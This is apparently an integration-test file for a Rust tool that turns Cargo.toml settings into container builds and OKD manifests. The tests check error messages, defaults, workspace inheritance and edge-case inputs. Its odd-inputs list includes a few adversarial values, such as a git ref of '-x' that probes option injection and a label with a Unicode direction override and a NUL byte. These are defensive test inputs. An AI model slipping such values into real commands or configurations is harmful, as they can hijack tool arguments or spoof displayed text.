        let after = ws.listing();
        let msg = match result {
            Ok(_) => {
                failures.push(format!("{}: no error", case.name));
                continue;
            }
            Err(e) => format!("{e:#}"),
        };
        eprintln!("--- {}\n{msg}", case.name);
        let mut problems = case.problems(&ws, &msg);
        if before != after {
            problems.push(format!(
                "files were written: {:?}",
                after
                    .keys()
                    .filter(|k| !before.contains_key(*k))
                    .collect::<Vec<_>>()
            ));
        }
        if !problems.is_empty() {
            failures.push(format!(
                "{}:\n  {}\n  message: {}",
                case.name,
                problems.join("\n  "),
                msg.replace('\n', "\n           ")
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} bad configurations are not reported well:\n\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

/// Odd inputs: whatever they give, they must not panic, and an error must write nothing.
#[test]
fn odd_inputs_do_not_panic() {
    for body in odd_inputs() {
        let ws = Ws::package(&body);
        let before = ws.listing();
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| ws.run()));
        match result {
            Err(_) => panic!("panicked on:\n{body}"),
            Ok(Ok(_)) => eprintln!("--- {body}\naccepted"),
            Ok(Err(e)) => {
                let msg = format!("{e:#}");
                eprintln!("--- {body}\n{msg}");
                assert!(
                    msg.contains(&ws.manifest().display().to_string()),
                    "the error for {body:?} does not name the manifest: {msg}"
                );
                assert_eq!(before, ws.listing(), "files were written for {body:?}");
            }
        }
    }
}

/// `[package.metadata.s2i]` bodies at the edges: deep nesting, huge numbers, `nan`, dates,
/// Unicode and control characters, wrong shapes.
fn odd_inputs() -> Vec<String> {
    let deep = format!(
        "okd = {}{}",
        "{ build-resources = { limits = { cpu = ".to_string() + &"{ a = ".repeat(40),
        "1".to_string() + &" }".repeat(43)
    );
    [
        deep,
        format!("env = {{ {} }}", "A = { B = { C = \"x\" } }"),
        "port = 9223372036854775807".into(),
        "user = 9223372036854775807".into(),
        "user = { builder = -9223372036854775808 }".into(),
        "port = 8080.0".into(),
        "port = nan".into(),
        "port = inf".into(),
        "port = 1979-05-27T07:32:00Z".into(),
        "\"порт\" = 8080".into(),
        "\"🚀\" = { \"🚀\" = \"🚀\" }".into(),
        "env = { \"ПЕРЕМЕННАЯ\" = \"значение\" }".into(),
        "labels = { \"a\" = \"\u{202e}evil\u{0000}\" }".into(),
        format!("tag = \"{}\"", "é".repeat(200)),
        format!("runtime-image = \"{}\"", "a/".repeat(300) + "a"),
        format!("builder-base = \"{}\"", "a:".repeat(100)),
        "builder-base = \"rust@sha256:\"".into(),
        "builder-base = \"localhost:99999999/rust\"".into(),
        "builder-base = \":\"".into(),
        "builder-base = \"@\"".into(),
        "features = [[], {}, 1]".into(),
        "okd = []".into(),
        "okd = { webhooks = 5 }".into(),
        "okd = { webhooks = [\"\"] }".into(),
        "okd = { webhooks = { \"\" = \"\" } }".into(),
        "okd = { build-resources = { limits = { cpu = \"\" } } }".into(),
        "okd = { build-resources = { limits = { cpu = \".\" } } }".into(),
        "okd = { build-resources = [] }".into(),
        "user = {}".into(),
        "user = []".into(),
        "user = true".into(),
        "[[package.metadata.s2i.env]]\nA = \"x\"".into(),
        "okd.context-dir = \"\"".into(),
        "okd.manifests-dir = \"\"".into(),
        "okd.git-ref = \"-x\"".into(),
        "okd.git-uri = \"\"".into(),
        "bin = \"demo\\u0000\"".into(),
    ]
    .into()
}

#[test]
fn an_empty_table_is_a_valid_configuration_with_every_default() {
    let ws = Ws::package("");
    ws.run()
        .expect("an empty `[package.metadata.s2i]` is valid");
    let configs = ws.configs();
    let c = &configs["demo"];
    assert_eq!(
        c.images.builder_base,
        xtask_s2i::config::DEFAULT_BUILDER_BASE
    );
    assert_eq!(
        (c.images.builder_image.as_str(), c.images.app_image.as_str()),
        ("demo-builder", "demo-app")
    );
    assert_eq!(c.images.runtime_image, "demo");
    assert_eq!(c.images.tag, "0.1.0");
    assert_eq!(c.build.bin, "demo");
    assert_eq!(c.build.profile, "release");
    assert!(c.build.vendor);
    assert_eq!(
        (c.container.builder_user, c.container.runtime_user),
        (1001, 65532)
    );
    assert_eq!(c.container.port, None);
    assert_eq!(c.okd().manifests.dir, "deploy/okd");
    assert!(
        ws.root()
            .join("target/s2i/demo/builder/Dockerfile")
            .is_file()
    );
}

#[test]
fn the_builder_base_flag_wins_over_the_configuration() {
    let ws = Ws::package(r#"builder-base = "docker.io/library/rust:1-slim""#);
    let summary = ws
        .args(|a| a.builder_base = Some("localhost/xtask-s2i/rust:trixie".into()))
        .execute(&Buffer::new())
        .unwrap();
    assert_eq!(summary.plans()[0].base(), "localhost/xtask-s2i/rust:trixie");
}

/// `--builder-base` is also read from `XTASK_S2I_BUILDER_BASE` (clap's `env`); checked on the
/// argument itself so no test has to change the process environment.
#[test]
fn the_builder_base_flag_reads_the_environment() {
    use xtask_s2i::clap::{Args, Command};
    let cmd = ImageArgs::augment_args(Command::new("image"));
    let arg = cmd
        .get_arguments()
        .find(|a| a.get_long() == Some("builder-base"))
        .expect("`--builder-base` exists");
    assert_eq!(
        arg.get_env().and_then(|e| e.to_str()),
        Some(xtask_s2i::config::BUILDER_BASE_ENV)
    );
}

const WS_DEFAULTS: &str = r#"[workspace]
members = ["api", "worker"]
resolver = "2"

[workspace.metadata.s2i]
builder-base = "localhost/xtask-s2i/rust:trixie"
builder-packages = ["protobuf-compiler"]
tag = "edge"
pull-policy = "never"
features = ["fast"]
no-default-features = true
profile = "dist"
vendor = false
strip = false
user = { builder = 2000, runtime = 3000 }
env = { RUST_LOG = "info", TZ = "UTC" }
labels = { "com.example.team" = "platform" }
port = 8080
runtime-files = "none"
args = ["serve"]
tzdata = false

[workspace.metadata.s2i.okd]
namespace = "shop"
git-uri = "https://example.com/acme/shop.git"
git-ref = "main"
manifests-dir = "deploy/cluster"
webhooks = ["generic"]
replicas = 2
tls = "reencrypt"
serves-tls = true
env-from = [{ secret = "shop-db" }]
build-resources = { limits = { memory = "2Gi" } }
build-timeout = 900
tag = "prod"
workload = "deployment"
health-path = "/healthz"
resources = { requests = { cpu = "50m" } }
source-secret = "shop-git"
unauthenticated-webhooks = true

[profile.dist]
inherits = "release"
"#;

fn member(name: &str, s2i: &str) -> String {
    format!(
        "[package]\nname = \"{name}\"\nversion = \"1.2.3\"\nedition = \"2021\"\nrepository = \"https://example.com/acme/shop\"\n\n[features]\nfast = []\n\n[package.metadata.s2i]\n{s2i}\n"
    )
}

fn shop() -> Ws {
    Ws::new(&[
        ("Cargo.toml", WS_DEFAULTS),
        (
            "api/Cargo.toml",
            &member(
                "api",
                "port = 9090\nuser = { runtime = 4000 }\nenv = { TZ = \"Europe/Paris\", API = \"1\" }\nlabels = { \"com.example.tier\" = \"front\" }\n\n[package.metadata.s2i.okd]\nnamespace = \"api\"\nmanifests-dir = \"deploy/api\"\nreplicas = 3\nresources = { limits = { memory = \"1Gi\" } }",
            ),
        ),
        ("api/src/main.rs", "fn main() {}\n"),
        ("worker/Cargo.toml", &member("worker", "")),
        ("worker/src/main.rs", "fn main() {}\n"),
    ])
}

#[test]
fn workspace_defaults_merge_key_by_key_and_the_package_wins() {
    let ws = shop();
    let summary = ws.run().expect("the shop workspace is valid");
    let configs = ws.configs();
    let by_name: BTreeMap<&str, &xtask_s2i::Config> = summary
        .plans()
        .iter()
        .map(|p| (p.package(), &configs[p.package()]))
        .collect();
    assert_eq!(
        by_name.keys().copied().collect::<Vec<_>>(),
        ["api", "worker"]
    );

    check_api(by_name["api"]);
    check_api_okd(by_name["api"]);
    check_worker(by_name["worker"]);

    // Both rendered, each into its own directory.
    for name in ["api", "worker"] {
        assert!(
            ws.root()
                .join(format!("target/s2i/{name}/runtime.Dockerfile"))
                .is_file()
        );
    }
}

/// The `api` package of [`shop`]: inherited scalars, the package winning, tables merged key by
/// key, and its own names.
fn check_api(api: &xtask_s2i::Config) {
    // Inherited scalars.
    assert_eq!(api.images.builder_base, "localhost/xtask-s2i/rust:trixie");
    assert_eq!(api.images.builder_packages, ["protobuf-compiler"]);
    assert_eq!(
        api.container.runtime_files,
        xtask_s2i::config::RuntimeFiles::None
    );
    assert_eq!(api.images.tag, "edge");
    assert_eq!(api.images.pull_policy, xtask_s2i::config::PullPolicy::Never);
    assert_eq!(api.build.features, ["fast"]);
    assert!(api.build.no_default_features);
    assert_eq!(api.build.profile, "dist");
    assert!(!api.build.vendor);
    assert!(!api.build.strip);
    // The package wins; tables merge key by key.
    assert_eq!(api.container.port, Some(9090));
    assert_eq!(
        (api.container.builder_user, api.container.runtime_user),
        (2000, 4000)
    );
    assert_eq!(
        api.container.env,
        BTreeMap::from([
            ("API".to_string(), "1".to_string()),
            ("RUST_LOG".into(), "info".into()),
            ("TZ".into(), "Europe/Paris".into()),
        ])
    );
    assert_eq!(
        api.container.labels,
        BTreeMap::from([
            ("com.example.team".to_string(), "platform".to_string()),
            ("com.example.tier".into(), "front".into()),
        ])
    );
    // Per-package keys cannot be workspace defaults: each package keeps its own names and binary.
    assert_eq!(api.build.bin, "api");
    assert_eq!(
        (
            api.images.builder_image.as_str(),
            api.images.app_image.as_str(),
            api.images.runtime_image.as_str()
        ),
        ("api-builder", "api-app", "api")
    );
}

/// The `okd` table of the `api` package of [`shop`].
fn check_api_okd(api: &xtask_s2i::Config) {
    assert_eq!(api.okd().manifests.namespace.as_deref(), Some("api"));
    assert_eq!(api.okd().workload.replicas, 3);
    assert_eq!(
        api.okd().git.uri.as_deref(),
        Some("https://example.com/acme/shop.git")
    );
    assert_eq!(api.okd().git.git_ref.as_deref(), Some("main"));
    assert_eq!(api.okd().manifests.dir, "deploy/api");
    assert_eq!(api.okd().workload.tls, xtask_s2i::config::Tls::Reencrypt);
    assert_eq!(api.okd().builds.resources.limits["memory"], "2Gi");
    assert_eq!(api.okd().git.webhooks.len(), 1);
    assert_eq!(api.okd().builds.timeout, 900);
    assert_eq!(api.okd().builds.tag, "prod");
    assert_eq!(
        api.okd().workload.kind,
        xtask_s2i::config::Workload::Deployment
    );
    assert_eq!(api.okd().workload.health_path.as_deref(), Some("/healthz"));
    assert_eq!(api.okd().git.source_secret.as_deref(), Some("shop-git"));
    assert!(api.okd().git.unauthenticated_webhooks);
    // `resources` is one table: the package's replaces the workspace's, over the defaults.
    assert_eq!(api.okd().workload.resources.limits["memory"], "1Gi");
    assert_eq!(api.okd().workload.resources.requests["cpu"], "10m");
}

/// The `worker` package of [`shop`].
fn check_worker(worker: &xtask_s2i::Config) {
    assert_eq!(worker.container.port, Some(8080));
    assert_eq!(
        (worker.container.builder_user, worker.container.runtime_user),
        (2000, 3000)
    );
    assert_eq!(worker.container.env["TZ"], "UTC");
    assert_eq!(worker.okd().manifests.namespace.as_deref(), Some("shop"));
    assert_eq!(worker.okd().workload.replicas, 2);
    assert_eq!(worker.okd().manifests.dir, "deploy/cluster");
    assert_eq!(worker.okd().workload.resources.requests["cpu"], "50m");
    assert_eq!(worker.okd().workload.resources.limits["memory"], "128Mi");
    assert_eq!(worker.build.bin, "worker");
    assert_eq!(worker.images.runtime_image, "worker");
    assert_eq!(worker.images.tag, "edge");
}

#[test]
fn a_workspace_schedule_is_inherited() {
    let ws = Ws::new(&[
        (
            "Cargo.toml",
            "[workspace]\nmembers = [\"job\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i.okd]\nworkload = \"cronjob\"\nschedule = \"@hourly\"\n",
        ),
        ("job/Cargo.toml", &member("job", "")),
        ("job/src/main.rs", "fn main() {}\n"),
    ]);
    ws.run().expect("a valid CronJob workspace");
    let configs = ws.configs();
    let okd = configs["job"].okd();
    assert_eq!(okd.workload.kind, xtask_s2i::config::Workload::CronJob);
    assert_eq!(okd.workload.schedule.as_deref(), Some("@hourly"));
}

#[test]
fn every_key_has_an_inheritance_rule_that_is_tested() {
    // If a key is added to the configuration, this test (and WS_DEFAULTS above) must learn it.
    // The per-package keys are refused as workspace defaults (see the bad configurations).
    const PER_PACKAGE: [&str; 4] = ["bin", "builder-image", "app-image", "runtime-image"];
    let doc: toml_edit::DocumentMut = WS_DEFAULTS.parse().unwrap();
    let s2i = &doc["workspace"]["metadata"]["s2i"];
    for k in KEYS.iter().filter(|k| !PER_PACKAGE.contains(&k.key)) {
        assert!(
            s2i.get(k.key).is_some(),
            "WS_DEFAULTS does not set `{}`",
            k.key
        );
    }
    // `schedule` goes with `workload = "cronjob"`: see `a_workspace_schedule_is_inherited`.
    for k in OKD_KEYS
        .iter()
        .filter(|k| k.key != "context-dir" && k.key != "schedule")
    {
        assert!(
            s2i["okd"].get(k.key).is_some(),
            "WS_DEFAULTS does not set `okd.{}`",
            k.key
        );
    }
}

#[test]
fn dash_p_selects_packages_and_an_unknown_name_lists_the_candidates() {
    let ws = Ws::new(&[
        (
            "Cargo.toml",
            "[workspace]\nmembers = [\"api\", \"worker\", \"lib\"]\nresolver = \"2\"\n",
        ),
        ("api/Cargo.toml", &member("api", "")),
        ("api/src/main.rs", "fn main() {}\n"),
        ("worker/Cargo.toml", &member("worker", "port = 8081")),
        ("worker/src/main.rs", "fn main() {}\n"),
        (
            "lib/Cargo.toml",
            "[package]\nname = \"lib\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        ),
        ("lib/src/lib.rs", "\n"),
    ]);
    let packages = |names: &[&str]| -> Vec<String> {
        ws.args(|a| a.packages = names.iter().map(|s| s.to_string()).collect())
            .execute(&Buffer::new())
            .unwrap()
            .plans()
            .iter()
            .map(|p| p.package().to_string())
            .collect()
    };
    assert_eq!(packages(&[]), ["api", "worker"]);
    assert_eq!(packages(&["worker"]), ["worker"]);
    assert_eq!(packages(&["worker", "api"]), ["worker", "api"]);

    let before = ws.listing();
    let msg = ws.fail(ws.args(|a| a.packages = vec!["wroker".into()]));
    assert!(msg.contains("package `wroker`"), "{msg}");
    assert!(msg.contains(&ws.manifest().display().to_string()), "{msg}");
    assert!(msg.contains("`api`") && msg.contains("`worker`"), "{msg}");
    assert!(!msg.contains("`lib`"), "`lib` has no configuration: {msg}");
    assert!(msg.contains("note: "), "{msg}");
    assert_eq!(before, ws.listing());
}

#[test]
fn no_configured_package_is_a_teaching_error_with_toml_to_paste() {
    let ws = Ws::new(&[(
        "Cargo.toml",
        "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\nrepository = \"https://example.com/acme/demo.git\"\n\n[workspace]\n",
    )]);
    let before = ws.listing();
    let msg = ws.fail(ws.args(|_| {}));
    assert!(msg.contains(&ws.manifest().display().to_string()), "{msg}");
    assert!(msg.contains("has `[package.metadata.s2i]`"), "{msg}");
    assert!(msg.contains("note: "), "{msg}");
    // The TOML in the note pastes as-is into a Cargo.toml and is a valid configuration.
    let toml = msg
        .lines()
        .skip_while(|l| !l.trim_start().starts_with("[package.metadata.s2i]"))
        .map(str::trim)
        .collect::<Vec<_>>()
        .join("\n");
    assert!(!toml.is_empty(), "no TOML to paste in: {msg}");
    assert_eq!(before, ws.listing());
    let mut manifest = ws.read("Cargo.toml");
    manifest.push('\n');
    manifest.push_str(&toml);
    ws.write("Cargo.toml", &manifest);
    ws.run().expect("the pasted TOML works");
}

#[test]
fn the_build_script_helper_reads_the_example() {
    let manifest = support::example_dir().join("Cargo.toml");
    let (image, files) = xtask_s2i::dev::runtime_image_of(&manifest).expect("the example is valid");
    assert_eq!(image, "hello-world:0.1.0");
    let manifest = manifest.canonicalize().unwrap();
    assert!(files.contains(&manifest), "{files:?}");
}

/// A package whose `build.rs` calls `xtask_s2i::build_script::check()`, built by a real `cargo
/// build` in a target directory of its own under the repository's `target/` (kept between runs).
struct BuildScriptPackage {
    ws: Ws,
}

impl BuildScriptPackage {
    fn new(s2i: &str) -> BuildScriptPackage {
        let repo = support::repo_root();
        let manifest = format!(
            "[package]\nname = \"checked\"\nversion = \"0.3.0\"\nedition = \"2021\"\nrepository = \"https://example.com/acme/checked.git\"\n\n[workspace]\n\n[build-dependencies]\nxtask-s2i = {{ path = {:?}, default-features = false }}\n\n[package.metadata.s2i]\n{s2i}\n",
            repo.display().to_string()
        );
        let ws = Ws::new(&[
            ("Cargo.toml", &manifest),
            (
                "build.rs",
                "fn main() {\n    xtask_s2i::build_script::check();\n}\n",
            ),
            (
                "src/main.rs",
                "fn main() {\n    println!(\"{}\", env!(\"S2I_RUNTIME_IMAGE\"));\n}\n",
            ),
        ]);
        // The repository's lock file pins the same versions it was tested with (cargo drops
        // what this package does not use), so the build works offline from the local cache.
        std::fs::copy(repo.join("Cargo.lock"), ws.root().join("Cargo.lock")).unwrap();
        BuildScriptPackage { ws }
    }

    fn cargo(&self, args: &[&str], env: &[(&str, &str)]) -> std::process::Output {
        let mut cmd = std::process::Command::new(std::env::var("CARGO").unwrap_or("cargo".into()));
        cmd.current_dir(self.ws.root())
            .args(args)
            .arg("--offline")
            .args((!args.iter().any(|a| a.starts_with("-v"))).then_some("--quiet"))
            .env(
                "CARGO_TARGET_DIR",
                support::repo_root().join("target/it-build-script"),
            )
            .env_remove(xtask_s2i::config::BUILDER_BASE_ENV)
            .env_remove("RUSTFLAGS");
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.output().expect("run cargo")
    }

    fn run(&self) -> String {
        let out = self.cargo(&["run"], &[]);
        assert!(
            out.status.success(),
            "cargo run failed:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    }
}

#[test]
fn build_rs_check_exports_the_runtime_image_and_fails_a_bad_configuration() {
    let good = BuildScriptPackage::new("runtime-image = \"quay.io/acme/checked\"\ntag = \"v7\"");
    assert_eq!(good.run(), "quay.io/acme/checked:v7");

    // Editing Cargo.toml re-runs the check; editing the source does not.
    let manifest = good.ws.read("Cargo.toml").replace("\"v7\"", "\"v8\"");
    good.ws.write("Cargo.toml", &manifest);
    assert_eq!(good.run(), "quay.io/acme/checked:v8");
    good.ws.write(
        "src/main.rs",
        "fn main() {\n    println!(\"{} again\", env!(\"S2I_RUNTIME_IMAGE\"));\n}\n",
    );
    let out = good.cargo(&["build", "-vv"], &[]);
    let log = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{log}");
    assert!(
        !log.contains("[checked 0.3.0] cargo::rustc-env"),
        "the build script re-ran for a source change:\n{log}"
    );
    assert_eq!(good.run(), "quay.io/acme/checked:v8 again");

    // A bad builder base from the environment fails the build too.
    let out = good.cargo(
        &["build"],
        &[(xtask_s2i::config::BUILDER_BASE_ENV, "Not An Image")],
    );
    assert!(
        !out.status.success(),
        "a bad XTASK_S2I_BUILDER_BASE must fail the build"
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("XTASK_S2I_BUILDER_BASE"), "{stderr}");

    // A bad configuration fails `cargo build` with the teaching error.
    let bad = BuildScriptPackage::new("port = \"http\"");
    let out = bad.cargo(&["build"], &[]);
    assert!(
        !out.status.success(),
        "a bad configuration must fail the build"
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    let manifest = bad.ws.manifest();
    let line = line_of(&bad.ws.read("Cargo.toml"), "port =");
    for expected in [
        format!(
            "invalid `package.metadata.s2i.port` in `{}:{line}`",
            manifest.display()
        ),
        "expected an integer, found the string `\"http\"`".to_string(),
        "note: `port` takes an integer, e.g. `port = 8080`".to_string(),
    ] {
        assert!(stderr.contains(&expected), "no {expected:?} in:\n{stderr}");
    }
}

/// A package with two binaries as two services of `bins`: each table over the package's (which
/// keeps the keys of one service to itself), each service named after its binary.
#[test]
fn bins_make_a_service_of_each_binary() {
    let ws = Ws::new(&[
        (
            "Cargo.toml",
            &package(
                "tools",
                "env = { LEVEL = \"info\" }\nlabels = { team = \"a\" }\n\n[package.metadata.s2i.bins.serve]\nport = 8080\n\n[package.metadata.s2i.bins.migrate]\nlabels = { role = \"migrate\" }\n",
            ),
        ),
        ("src/bin/serve.rs", "fn main() {}\n"),
        ("src/bin/migrate.rs", "fn main() {}\n"),
    ]);
    let summary = ws.run().unwrap();
    let services: Vec<(String, String, Option<u16>)> = summary
        .plans()
        .iter()
        .map(|p| {
            (
                p.service().to_string(),
                p.bin().to_string(),
                p.container().port,
            )
        })
        .collect();
    assert_eq!(
        services,
        [
            ("migrate".to_string(), "migrate".to_string(), None),
            ("serve".to_string(), "serve".to_string(), Some(8080)),
        ]
    );
    let migrate = &summary.plans()[0];
    assert_eq!(migrate.container().env["LEVEL"], "info");
    assert_eq!(migrate.container().labels["team"], "a");
    assert_eq!(migrate.container().labels["role"], "migrate");
    // One group: the first service leads (its names), both binaries in one `assemble`.
    assert_eq!(
        migrate.image(xtask_s2i::plan::Stage::App).name,
        "migrate-app"
    );
    assert_eq!(
        summary.plans()[1].image(xtask_s2i::plan::Stage::App).name,
        "migrate-app"
    );
    assert_eq!(
        summary.plans()[1]
            .image(xtask_s2i::plan::Stage::Runtime)
            .name,
        "serve"
    );
}

/// Wrong shapes of `bins` are refused, naming the file and the key.
#[test]
fn wrong_bins_are_refused() {
    let ws = Ws::new(&[
        ("Cargo.toml", &package("tools", "")),
        ("src/bin/serve.rs", "fn main() {}\n"),
        ("src/bin/migrate.rs", "fn main() {}\n"),
    ]);
    for (s2i, expected) in [
        (
            "bin = \"serve\"\n[package.metadata.s2i.bins.migrate]\n",
            "`bin` and `bins` cannot both be set",
        ),
        ("bins = 3\n", "`bins` must be a table of tables"),
        (
            "[package.metadata.s2i.bins]\nmigrate = 1\n",
            "`bins.migrate` must be a table",
        ),
        (
            "[package.metadata.s2i.bins.migrate]\nbin = \"serve\"\n",
            "`bins.migrate` names its binary",
        ),
        (
            "[package.metadata.s2i.bins.nope]\n",
            "has no binary target `nope`",
        ),
        (
            "[package.metadata.s2i.bins.migrate]\nprot = 8080\n",
            "unknown key `prot` in `[package.metadata.s2i.bins.migrate]`",
        ),
    ] {
        ws.write("Cargo.toml", &package("tools", s2i));
        let err = ws.fail(ws.args(|_| {}));
        assert!(err.contains(expected), "{s2i}: {err}");
        assert!(err.contains("Cargo.toml"), "{s2i}: {err}");
    }
}
